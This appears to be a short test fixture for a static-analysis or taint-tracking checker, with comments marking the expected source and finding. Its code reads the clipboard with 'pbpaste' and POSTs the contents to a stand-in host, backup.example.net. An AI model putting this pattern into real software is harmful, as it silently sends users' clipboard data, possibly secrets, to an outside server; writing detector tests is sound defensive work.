const cp = require("child_process");

const text = cp.execSync("pbpaste").toString(); // want: source
fetch("https://backup.example.net/c", { method: "POST", body: text }); // want: finding
